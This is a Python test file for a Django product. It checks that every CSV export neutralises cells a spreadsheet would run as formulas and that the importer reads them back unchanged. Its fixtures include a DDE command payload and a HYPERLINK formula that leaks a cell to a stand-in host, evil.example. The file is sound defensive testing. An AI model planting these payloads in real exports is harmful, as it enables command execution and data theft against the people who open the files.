"""CSV formula injection: every CSV the product writes goes through one writer that neutralises
cells a spreadsheet would run as formulas, and the product's own importer reads them back."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

import casebridge
from casebridge.core.exports import csv_text, neutralise, restore
from casebridge.installed_base import services as installed_base_services
from casebridge.installed_base.services import InstallationInput
from casebridge.parties.models import Organisation
from casebridge.rasci import selectors as rasci_selectors
from casebridge.rasci import services as rasci_services
from casebridge.rasci.exports import render_csv
from casebridge.rasci.models import Activity

SOURCE = Path(casebridge.__file__).parent
ORGANISATION = "=cmd|' /C calc'!A0"
LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),
        ("Plain name", "Plain name"),
        ("a=b", "a=b"),
        (-5, "-5"),
        (3.5, "3.5"),
        (None, ""),
    ],
    ids=repr,
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value, cell):
    assert neutralise(value) == cell


@given(st.text())
def test_the_product_reads_back_exactly_what_it_wrote(text):
    assert restore(neutralise(text)) == text


def test_the_writer_neutralises_every_cell_of_header_and_rows():
    text = csv_text(["name", "=header"], [["=1+1", "fine"], ["@x", "-y"]])

    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "'=header"],
        ["'=1+1", "fine"],
        ["'@x", "'-y"],
    ]


def _csv_writers_outside_the_core_writer() -> list[str]:
    found = []
    for path in SOURCE.rglob("*.py"):
        if path == SOURCE / "core" / "exports.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in {"writer", "DictWriter"}
            ):
                found.append(f"{path.relative_to(SOURCE)}:{node.lineno}")
    return found


def test_no_module_writes_csv_but_the_core_writer():
    assert _csv_writers_outside_the_core_writer() == []


def _hostile_installation(world):
    Organisation.objects.filter(pk=world.customer_a.pk).update(name=ORGANISATION)
    Organisation.objects.filter(pk=world.partner_a.pk).update(name="@partner")
    world.customer_a.refresh_from_db()
    installed_base_services.installation_create(
        actor=None,
        customer=world.customer_a,
        data=InstallationInput(component="server_core", version="2024.10.1", label=LABEL),
    )


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_the_compliance_export_of_the_portal_holds_no_live_formula(world, releases):
    _hostile_installation(world)
    client = Client()
    client.force_login(world.vendor_admin)

    response = client.get("/installed-base/export.csv")

    (row,) = _rows(response.content)
    assert (row["customer"], row["partner"], row["label"]) == (
        "'" + ORGANISATION,
        "'@partner",
        "'" + LABEL,
    )


def test_the_compliance_export_of_the_api_holds_no_live_formula(world, releases, api_as):
    _hostile_installation(world)

    response = api_as(world.vendor_admin).get("/api/v1/installed-base/compliance", format="csv")

    (row,) = _rows(response.content)
    assert (row["customer"], row["label"]) == ("'" + ORGANISATION, "'" + LABEL)


def test_a_matrix_exports_formula_like_names_as_text_and_imports_them_unchanged(world, matrices):
    draft = rasci_services.draft_create(
        actor=None, operating_model=rasci_selectors.published_version("model_1").operating_model
    )
    rasci_services.draft_add_activity(
        actor=None,
        version=draft,
        code="area.formula",
        name="=1+1",
        category="-category",
        description="@SUM(A1:A9)",
        letters={"vendor": "A/R"},
    )
    rasci_services.version_publish(actor=None, version=draft)
    version = rasci_selectors.published_version("model_1")

    text = render_csv(
        "model_1", version.operating_model.parties, rasci_selectors.version_rows(version)
    )
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["code"] == "area.formula"]
    (imported,) = rasci_services.matrices_import(actor=None, text=text)

    assert (row["activity"], row["category"], row["description"]) == (
        "'=1+1",
        "'-category",
        "'@SUM(A1:A9)",
    )
    again = Activity.objects.get(version=imported, code="area.formula")
    assert (again.name, again.category, again.description) == ("=1+1", "-category", "@SUM(A1:A9)")
